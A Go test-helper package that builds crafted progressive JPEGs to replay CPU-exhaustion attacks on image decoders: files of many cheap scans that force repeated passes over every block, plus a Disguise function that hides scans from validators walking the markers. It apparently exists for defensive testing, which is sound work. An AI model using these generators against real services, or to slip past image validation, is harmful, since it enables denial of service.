// Package jpegbomb builds the JPEGs the tests of several packages replay CPU attacks with: progressive files whose
// many cheap scans each make a decoder visit every block of the image again. It builds them from bytes (image/jpeg
// writes baseline files only), never holding pixels, and imports nothing of this module. Only tests import it.
package jpegbomb

import (
	"bytes"
	"encoding/binary"
)

// seg is one marker segment with its length.
func seg(marker byte, body ...byte) []byte {
	return append([]byte{0xFF, marker, byte((len(body) + 2) >> 8), byte(len(body) + 2)}, body...)
}

// header is SOI, a flat quantisation table, a progressive frame header of c 4:4:4 components (ids 1..c) and
// one-code Huffman tables: DC category 0 coded as the bit 0, and the AC symbol ac coded as the bit 0.
func header(w, h, c int, ac byte) []byte {
	out := []byte{0xFF, 0xD8}
	out = append(out, seg(0xDB, append([]byte{0}, bytes.Repeat([]byte{1}, 64)...)...)...)
	sof := []byte{8, byte(h >> 8), byte(h), byte(w >> 8), byte(w), byte(c)}
	for i := range c {
		sof = append(sof, byte(i+1), 0x11, 0)
	}
	out = append(out, seg(0xC2, sof...)...)
	oneCode := func(class byte, sym byte) []byte {
		b := []byte{class << 4, 1}
		b = append(b, make([]byte, 15)...)
		return append(b, sym)
	}
	return append(out, seg(0xC4, append(oneCode(0, 0), oneCode(1, ac)...)...)...)
}

// zeroBits is n zero bits padded with one bits to a whole byte.
func zeroBits(n int) []byte {
	b := make([]byte, (n+7)/8)
	if p := len(b)*8 - n; p > 0 {
		b[len(b)-1] = byte(1<<p - 1)
	}
	return b
}

// Scans builds a progressive grey w×h JPEG (w and h multiples of 8) with a DC scan followed by n identical AC
// scans, each nothing but end-of-band runs of 16384 to 32767 blocks: a few dozen bytes a scan that make a decoder
// visit every block again. 1000 such scans of 40 megapixels make 126 KB.
func Scans(w, h, n int) []byte {
	out := header(w, h, 1, 0xE0)
	blocks := (w / 8) * (h / 8)
	out = append(out, seg(0xDA, 1, 1, 0, 0, 0, 0)...)
	out = append(out, zeroBits(blocks)...)
	// AC scan data: runs of 16384..32767 blocks, code '0' + 14 bits.
	k := (blocks + 32766) / 32767
	var bw []byte
	var acc uint64
	var nb uint
	put := func(v uint64, n uint) {
		for i := int(n) - 1; i >= 0; i-- {
			acc = acc<<1 | (v>>uint(i))&1
			nb++
			if nb == 8 {
				b := byte(acc)
				bw = append(bw, b)
				if b == 0xFF {
					bw = append(bw, 0)
				}
				acc, nb = 0, 0
			}
		}
	}
	left := blocks
	for i := range k {
		r := left / (k - i)
		put(0, 1)
		put(uint64(r-16384), 14)
		left -= r
	}
	for nb != 0 {
		put(1, 1)
	}
	for range n {
		out = append(out, seg(0xDA, 1, 1, 0, 1, 63, 0)...)
		out = append(out, bw...)
	}
	return append(out, 0xFF, 0xD9)
}

// DCScans builds a progressive w×h JPEG of c 4:4:4 components with n DC scans of all of them interleaved, each one
// bit a block: the scans whose every MCU visits c blocks.
func DCScans(w, h, c, n int) []byte {
	out := header(w, h, c, 0)
	sos := []byte{byte(c)}
	for i := range c {
		sos = append(sos, byte(i+1), 0)
	}
	sos = append(sos, 0, 0, 0)
	data := zeroBits(((w + 7) / 8) * ((h + 7) / 8) * c)
	for range n {
		out = append(out, seg(0xDA, sos...)...)
		out = append(out, data...)
	}
	return append(out, 0xFF, 0xD9)
}

// Disguise hides every scan of j (SOS segment and data) from a marker walker that reads 0xFF00 between segments as
// a marker with a length: it puts an empty comment and then 0xFF00 and the length of the scan before each one. Both
// image/jpeg and libjpeg skip that pair as junk and the two length bytes after it, and decode the scan.
func Disguise(j []byte) []byte {
	out := []byte{}
	rest := j
	for {
		k := bytes.Index(rest, []byte{0xFF, 0xDA})
		if k < 0 {
			return append(out, rest...)
		}
		out = append(out, rest[:k]...)
		end := k + 2 + nextMarker(rest[k+2:])
		n := end - k + 2
		if n > 0xFEFE {
			panic("jpegbomb: scan too long to disguise")
		}
		out = append(out, 0xFF, 0xFE, 0, 2, 0xFF, 0x00)
		out = binary.BigEndian.AppendUint16(out, uint16(n))
		out = append(out, rest[k:end]...)
		rest = rest[end:]
	}
}

// nextMarker is the offset of the first marker in entropy-coded data b other than a stuffed 0xFF00 or RSTn.
func nextMarker(b []byte) int {
	for i := 0; i+1 < len(b); i++ {
		if b[i] == 0xFF && b[i+1] != 0 && (b[i+1] < 0xD0 || b[i+1] > 0xD7) {
			return i
		}
	}
	return len(b)
}
